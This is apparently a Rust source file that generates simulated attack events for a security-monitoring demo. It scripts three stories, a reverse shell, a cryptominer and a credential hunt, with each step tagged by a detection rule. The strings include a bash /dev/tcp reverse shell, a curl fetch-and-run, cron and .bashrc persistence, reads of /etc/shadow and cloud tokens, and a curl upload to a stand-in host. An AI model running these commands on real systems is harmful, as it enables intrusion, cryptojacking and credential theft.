//! The three attacks that happen in the demo every day, at fixed times of the day (UTC).
//!
//! Each tells one story through several rules, so that it can be found, followed and explained.

use std::{sync::LazyLock, time::Duration};

use super::roles::Command;

/// One event of an attack.
#[derive(Debug, Clone, Copy)]
pub(super) struct Step {
    /// Nanoseconds since midnight UTC.
    pub(super) at: i64,
    /// Name of the container.
    pub(super) container: &'static str,
    /// Name of the rule.
    pub(super) rule: &'static str,
    pub(super) process: Command,
    pub(super) target: StepTarget,
}

/// What the process of a step touches.
#[derive(Debug, Clone, Copy)]
pub(super) enum StepTarget {
    /// Nothing but itself.
    Nothing,
    /// A file.
    File(&'static str),
    /// A server by address and port.
    Server([u8; 4], u16),
}

/// All steps of a day, in order of time.
pub(super) static STEPS: LazyLock<Vec<Step>> = LazyLock::new(|| {
    let mut steps = Vec::new();
    reverse_shell(&mut steps);
    miner(&mut steps);
    credentials(&mut steps);
    steps.sort_by_key(|step| step.at);
    steps
});

/// The steps from `start` to before `end`, in nanoseconds since midnight.
pub(super) fn between(start: i64, end: i64) -> &'static [Step] {
    let first = STEPS.partition_point(|step| step.at < start);
    let last = STEPS.partition_point(|step| step.at < end);
    STEPS.get(first..last).unwrap_or_default()
}

const fn process(
    name: &'static str,
    path: &'static str,
    line: &'static str,
    parent: &'static str,
) -> Command {
    Command {
        name,
        path,
        line,
        parent,
    }
}

/// Collects the steps of one attack.
struct Story<'a> {
    steps: &'a mut Vec<Step>,
    begins: Duration,
    container: &'static str,
}

impl Story<'_> {
    fn step(&mut self, after_ms: u64, rule: &'static str, process: Command, target: StepTarget) {
        let at = self.begins + Duration::from_millis(after_ms);
        self.steps.push(Step {
            at: at.as_nanos() as i64,
            container: self.container,
            rule,
            process,
            target,
        });
    }
}

const fn time_of_day(hours: u64, minutes: u64) -> Duration {
    Duration::from_secs(hours * 3600 + minutes * 60)
}

/// 03:12, `shop-web-2`: a shell for somebody outside, then files written, then data sent away.
fn reverse_shell(steps: &mut Vec<Step>) {
    let mut story = Story {
        steps,
        begins: time_of_day(3, 12),
        container: "shop-web-2",
    };
    let attacker = [198, 51, 100, 23];
    let shell = process(
        "bash",
        "/bin/bash",
        "bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"",
        "nginx",
    );
    let interactive = process("bash", "/bin/bash", "bash -i", "bash");
    story.step(0, "Run shell untrusted", shell, StepTarget::Nothing);
    story.step(
        40,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        interactive,
        StepTarget::Server(attacker, 4444),
    );
    for (after_ms, name, path, line) in [
        (6_100, "id", "/usr/bin/id", "id"),
        (9_400, "uname", "/bin/uname", "uname -a"),
        (14_900, "ps", "/bin/ps", "ps auxf"),
    ] {
        let command = process(name, path, line, "bash");
        story.step(
            after_ms,
            "System user interactive",
            command,
            StepTarget::Nothing,
        );
    }
    story.step(
        31_000,
        "Read sensitive file untrusted",
        process("cat", "/bin/cat", "cat /etc/shadow", "bash"),
        StepTarget::File("/etc/shadow"),
    );
    story.step(
        58_000,
        "Launch Suspicious Network Tool in Container",
        process(
            "nmap",
            "/tmp/nmap",
            "nmap -sT -p 5432,6379,9092 10.20.0.0/16",
            "bash",
        ),
        StepTarget::Nothing,
    );
    story.step(
        95_000,
        "Write below etc",
        process("tee", "/usr/bin/tee", "tee /etc/cron.d/logsync", "bash"),
        StepTarget::File("/etc/cron.d/logsync"),
    );
    story.step(
        121_000,
        "Modify Shell Configuration File",
        process(
            "sh",
            "/bin/sh",
            "sh -c \"echo /tmp/.cache/update >> /root/.bashrc\"",
            "bash",
        ),
        StepTarget::File("/root/.bashrc"),
    );
    story.step(
        150_000,
        "Drop and execute new binary in container",
        process(
            "update",
            "/tmp/.cache/update",
            "/tmp/.cache/update --daemon",
            "bash",
        ),
        StepTarget::Nothing,
    );
    for beat in 0..10 {
        story.step(
            180_000 + beat * 30_000,
            "Unexpected outbound connection destination",
            process(
                "update",
                "/tmp/.cache/update",
                "/tmp/.cache/update --daemon",
                "bash",
            ),
            StepTarget::Server(attacker, 8443),
        );
    }
    story.step(
        490_000,
        "Clear Log Activities",
        process(
            "truncate",
            "/usr/bin/truncate",
            "truncate -s 0 /var/log/nginx/access.log",
            "bash",
        ),
        StepTarget::File("/var/log/nginx/access.log"),
    );
}

/// 11:25, `ops-jenkins-1`: a build script fetches a miner, which works for forty minutes.
fn miner(steps: &mut Vec<Step>) {
    let mut story = Story {
        steps,
        begins: time_of_day(11, 25),
        container: "ops-jenkins-1",
    };
    let pool = [203, 0, 113, 77];
    let miner = process(
        "kworkerds",
        "/dev/shm/.x/kworkerds",
        "/dev/shm/.x/kworkerds -o pool.example.net:3333 --donate-level 1 -B",
        "sh",
    );
    story.step(
        0,
        "Unexpected outbound connection destination",
        process(
            "curl",
            "/usr/bin/curl",
            "curl -fsSL http://203.0.113.66/x.sh -o /dev/shm/.x/x.sh",
            "sh",
        ),
        StepTarget::Server([203, 0, 113, 66], 80),
    );
    story.step(
        2_300,
        "Execution from /dev/shm",
        process("x.sh", "/dev/shm/.x/x.sh", "sh /dev/shm/.x/x.sh", "sh"),
        StepTarget::Nothing,
    );
    story.step(
        4_700,
        "Drop and execute new binary in container",
        miner,
        StepTarget::Nothing,
    );
    story.step(4_900, "Execution from /dev/shm", miner, StepTarget::Nothing);
    story.step(
        9_000,
        "Write below etc",
        process(
            "sh",
            "/bin/sh",
            "sh -c \"echo '*/5 * * * * root /dev/shm/.x/x.sh' > /etc/cron.d/sync\"",
            "x.sh",
        ),
        StepTarget::File("/etc/cron.d/sync"),
    );
    for beat in 0..80 {
        story.step(
            12_000 + beat * 30_000,
            "Detect outbound connections to common miner pool ports",
            miner,
            StepTarget::Server(pool, 3333),
        );
    }
}

/// 17:48, `checkout-api-2`: a container looks for credentials and tries the API of the cluster.
fn credentials(steps: &mut Vec<Step>) {
    let mut story = Story {
        steps,
        begins: time_of_day(17, 48),
        container: "checkout-api-2",
    };
    let shell = process("sh", "/bin/sh", "sh -c \"sh /tmp/.t/collect.sh\"", "java");
    story.step(0, "Run shell untrusted", shell, StepTarget::Nothing);
    for (number, (rule, line)) in [
        (
            "Find AWS Credentials",
            "grep -r aws_secret_access_key /root /home /app",
        ),
        (
            "Search Private Keys or Passwords",
            "grep -ri \"BEGIN OPENSSH PRIVATE\" /root /home /app",
        ),
        (
            "Search Private Keys or Passwords",
            "grep -rE \"password|passwd|secret\" /app/config",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let command = process("grep", "/bin/grep", line, "sh");
        story.step(
            1_500 + 2_200 * number as u64,
            rule,
            command,
            StepTarget::Nothing,
        );
    }
    for (number, path) in [
        "/etc/shadow",
        "/root/.aws/credentials",
        "/run/secrets/database-url",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ]
    .into_iter()
    .enumerate()
    {
        story.step(
            11_000 + 900 * number as u64,
            "Read sensitive file untrusted",
            process(
                "cat",
                "/bin/cat",
                "cat -- /etc/shadow /root/.aws/credentials /run/secrets/database-url",
                "sh",
            ),
            StepTarget::File(path),
        );
    }
    for beat in 0..6 {
        story.step(
            20_000 + beat * 4_000,
            "Contact K8S API Server From Container",
            process(
                "curl",
                "/usr/bin/curl",
                "curl -sk -H @/tmp/.t/h https://10.96.0.1/api/v1/secrets",
                "sh",
            ),
            StepTarget::Server([10, 96, 0, 1], 443),
        );
    }
    story.step(
        52_000,
        "Unexpected outbound connection destination",
        process(
            "curl",
            "/usr/bin/curl",
            "curl -s -T /tmp/.t/out.tgz https://files.example.net/u/",
            "sh",
        ),
        StepTarget::Server([192, 0, 2, 144], 443),
    );
}
